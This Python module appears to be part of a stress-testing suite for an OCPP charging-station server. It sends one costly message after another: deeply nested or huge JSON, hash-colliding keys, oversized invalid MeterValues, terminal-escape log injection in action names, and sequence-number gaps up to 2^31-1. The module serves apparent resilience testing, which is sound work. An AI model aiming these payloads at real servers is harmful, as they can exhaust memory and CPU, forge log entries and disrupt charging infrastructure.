"""Attacks with one message that is costly to parse, to validate or to understand.

In most each message waits for the answer to the one before.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable
from itertools import cycle

from hostile.attack import FLOOD, NEAR_LIMIT, Target, attack
from hostile.ocpp import TIME, opener, transaction_event
from hostile.wire import CLOSE, Line, Refused, Sender, call, endlessly, flood, frame


def one_by_one(target: Target, texts: Iterable[bytes], opened: Callable[[], Line]) -> None:
    """Send each text and wait for the answer to a Heartbeat after it; connect again when the connection is closed, and stay to the end."""
    line: Line | None = None
    for text in texts:
        if not target.lasts:
            return
        try:
            line = line or opened()
            line.socket.settimeout(max(0.1, target.seconds))
            line.send(text)
            line.send(call("Heartbeat", {}, probe := f"p{target.counts['messages']}"))
            target.counts["messages"] += 1
            while (got := line.receive())[0] != CLOSE and f'"{probe}"'.encode() not in got[1][:80]:
                target.counts["answers"] += 1
            if got[0] == CLOSE:
                raise ConnectionResetError
        except (OSError, Refused):
            target.counts["closed"] += 1
            line = None
            target.pause(0.05)
    target.pause(target.seconds)


def odd_texts() -> list[bytes]:
    """JSON that is deep, large, ambiguous, or hardly JSON."""
    values = [
        b"[" * 100_000 + b"]" * 100_000, b'{"a":' * 50_000 + b"1" + b"}" * 50_000, b"NaN", b"Infinity", b"-Infinity",
        b"9" * 100_000, b"9" * 4000, b"-" + b"9" * 4000, b"1e400", b"1e-400", b"1" + b"0" * 5000 + b".0", b"2e0", b"0x10", b"true", b"null",
        b'"\\ud800"', b'"\\udc00\\ud800"', b'"\xed\xa0\x80"', b'"\xff\xfe"', b'"\\u0000"', b'"\\u202e"', b'"' + b"9" * 500_000 + b'"',
        b'{"a":1,"a":2}', b"[,]", b"[1,]", b"{,}", b"'x'", b"/**/1",
    ]  # fmt: skip
    texts = [b'[2,"%d","DataTransfer",{"vendorId":"hostile","data":%s}]' % pair for pair in enumerate(values)]
    texts += [b'[2,"m%d","MeterValues",{"connectorId":%s,"meterValue":[]}]' % pair for pair in enumerate(values)]
    texts += [b'[%s,"n","Heartbeat",{}]' % value for value in values]
    texts += [
        b"\xef\xbb\xbf" + call("Heartbeat", {}),
        b"",
        b"[]",
        b"[2]",
        b"{}",
        b'"x"',
        b"[2,2,2,2]",
        b'[2,"","",{}]',
        b'[3,"x",{}]',
        b'[4,"x"]',
    ]
    return texts


@attack("odd JSON", "A13", "deep, endless, ambiguous and malformed values, 90 kinds in turn")
def odd_json(target: Target) -> None:
    texts = odd_texts()
    target.begin()
    one_by_one(target, cycle(texts), opener(target))


@attack("1 MB of brackets", "A13b, F6", "malformed JSON, one after the other")
def brackets(target: Target) -> None:
    text = b"[" * NEAR_LIMIT
    target.begin()
    one_by_one(target, cycle([text]), opener(target))


@attack("half a million violations", "A13c, F3", "MeterValues of 1 MB in which every element is invalid, twice", memory=FLOOD, seconds=8)
def violations(target: Target) -> None:
    texts = [
        call("MeterValues", {"connectorId": 1, "meterValue": [1] * (NEAR_LIMIT // 2)}, "v1"),
        call("MeterValues", {"connectorId": 1, "meterValue": [{"timestamp": TIME, "sampledValue": [{}] * (NEAR_LIMIT // 3)}]}, "v2"),
    ]
    target.begin()
    one_by_one(target, texts, opener(target))


@attack("100,000 unknown members", "A13d", "a Heartbeat with as many, again and again", memory=FLOOD)
def unknown_members(target: Target) -> None:
    text = call("Heartbeat", {f"{number:x}": 0 for number in range(100_000)})[:-2]
    texts = [text.replace(b'"1"', b'"u%d"' % number, 1) + b"}]" for number in range(20)]
    target.begin()
    one_by_one(target, cycle(texts), opener(target))


@attack("slow numbers for an action", "-", "64 messages of 64 kB in one write, with 10,600 times 1e300 for an action each")
def slow_numbers(target: Target) -> None:
    text = b'[2,"9",[%s],{}]' % b",".join([b"1e300"] * 10_600)
    target.begin()
    flood(target, [Sender(target, opener(target), endlessly(64 * frame(text)))])


@attack("control characters in actions", "A15b, F7", "CR, LF and ESC in actions and ids, one after the other")
def control_characters(target: Target) -> None:
    bad = "\x1b[2J\r\n2026-11-23T10:00:00+0000 [-] hostile line \x07\x9b"
    texts = [call(bad, {}, "1"), call("Heartbeat", {}, bad), json.dumps([3, bad, {}]).encode(), json.dumps([4, bad, bad, bad, {}]).encode()]
    target.begin()
    one_by_one(target, cycle(texts), opener(target))


@attack("hash collisions", "-", "20,000 members whose numbers have one hash", memory=FLOOD)
def hash_collisions(target: Target) -> None:
    numbers = [number * ((1 << 61) - 1) for number in range(1, 20_001)]
    data = {str(each): each for each in numbers}
    texts = [call("DataTransfer", {"vendorId": "hostile", "data": data}, f"k{each}") for each in range(20)]
    target.begin()
    one_by_one(target, cycle(texts), opener(target))


@attack("seqNo bombs", "F1", "gaps of 5 million, 50 million and 2^31 - 1 numbers in a transaction")
def seq_no_bombs(target: Target) -> None:
    texts = []
    for number, last in enumerate((5_000_000, 50_000_000, (1 << 31) - 1)):
        transaction = f"bomb-{number}"
        texts += [transaction_event(f"s{number}", "Started", transaction, 0), transaction_event(f"u{number}", "Updated", transaction, last)]
        texts += [transaction_event(f"d{number}", "Updated", transaction, 1)]
    target.begin()
    one_by_one(target, texts, opener(target, protocol="ocpp2.0.1"))
